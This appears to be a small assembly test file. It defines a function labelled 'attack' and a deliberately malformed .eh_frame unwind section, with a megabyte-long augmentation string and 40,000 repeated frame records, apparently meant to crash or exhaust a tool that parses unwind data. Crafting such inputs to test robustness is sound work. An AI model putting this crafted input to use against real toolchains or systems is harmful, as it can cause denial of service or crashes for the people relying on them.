function attack
    ud2
    .section .eh_frame,"a",@progbits
1:  .long 3f-2f
2:  .long 0
    .byte 1
    .byte 'z'
    .fill 1 << 20,1,'S'
    .byte 0
    .byte 1, 0x78, 16, 0
    .balign 8
3:
    .rept 40000
    .long 20
    .long .-1b
    .quad 0x1000, 16
    .endr
    .long 0
